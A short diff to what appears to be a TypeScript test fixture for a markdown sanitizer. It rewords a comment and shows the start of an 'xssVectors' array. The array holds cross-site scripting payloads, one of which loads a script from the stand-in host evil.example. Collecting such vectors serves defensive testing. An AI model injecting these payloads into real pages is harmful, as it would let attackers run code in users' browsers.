@@ -1,4 +1,4 @@
-/** Markdown that tries to run a script, to load something foreign, to leave its frame, or to pass for a part of the page. */
+/** Markdown that tries to run a script, load foreign content, leave its frame, or imitate a part of the page. */
 export const xssVectors: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
